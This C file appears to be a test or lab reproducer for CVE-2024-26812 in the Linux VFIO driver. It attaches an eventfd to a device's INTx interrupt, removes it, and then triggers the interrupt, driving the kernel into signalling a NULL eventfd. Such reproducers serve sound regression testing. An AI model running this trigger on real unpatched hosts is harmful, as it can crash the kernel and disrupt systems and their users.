// SPDX-License-Identifier: GPL-2.0-only
/*
 * CVE-2024-26812: INTx whose eventfd was taken away is signalled all the same.
 *
 * vfio_intx_set_signal(-1) leaves the interrupt type as it is, and vfio_pci_set_intx_trigger() and
 * the unmasking of a pending interrupt gave eventfd_signal() what is no eventfd any more: NULL.
 */
#include <err.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/ioctl.h>
#include <unistd.h>
#include <linux/vfio.h>

static int device;

/* `eventfd` is for VFIO_IRQ_SET_DATA_EVENTFD. */
static int set_intx(uint32_t flags, uint32_t count, int32_t eventfd)
{
	struct {
		struct vfio_irq_set head;
		int32_t eventfd;
	} set = {
		.head = {
			.argsz = sizeof(set.head) +
				 (flags & VFIO_IRQ_SET_DATA_EVENTFD ? sizeof(set.eventfd) : 0),
			.flags = flags,
			.index = VFIO_PCI_INTX_IRQ_INDEX,
			.count = count,
		},
	};

	memcpy(set.head.data, &eventfd, sizeof(eventfd));
	return ioctl(device, VFIO_DEVICE_SET_IRQS, &set);
}

static void open_device(void)
{
	const char *bdf = getenv("VFIO_LAB_BDF"), *path = getenv("VFIO_LAB_GROUP");
	int container = open("/dev/vfio/vfio", O_RDWR), group;

	if (!path || container < 0) {
		printf("1..0 # SKIP the kernel has no groups\n");
		exit(0);
	}
	group = open(path, O_RDWR);
	if (group < 0 || ioctl(group, VFIO_GROUP_SET_CONTAINER, &container))
		err(2, "%s", path);
	if (ioctl(container, VFIO_SET_IOMMU, VFIO_TYPE1_IOMMU))
		err(2, "VFIO_SET_IOMMU");
	device = ioctl(group, VFIO_GROUP_GET_DEVICE_FD, bdf);
	if (device < 0)
		err(2, "VFIO_GROUP_GET_DEVICE_FD");
}

#define EVENTFD (VFIO_IRQ_SET_DATA_EVENTFD | VFIO_IRQ_SET_ACTION_TRIGGER)
#define NONE VFIO_IRQ_SET_DATA_NONE

int main(void)
{
	open_device();
	if (set_intx(EVENTFD, 1, eventfd(0, 0)) || set_intx(EVENTFD, 1, -1))
		err(2, "VFIO_DEVICE_SET_IRQS");
	printf("INTx has no eventfd now\n");
	fflush(stdout);
	set_intx(NONE | VFIO_IRQ_SET_ACTION_TRIGGER, 1, 0);
	printf("it was triggered\n");
	return 0;
}
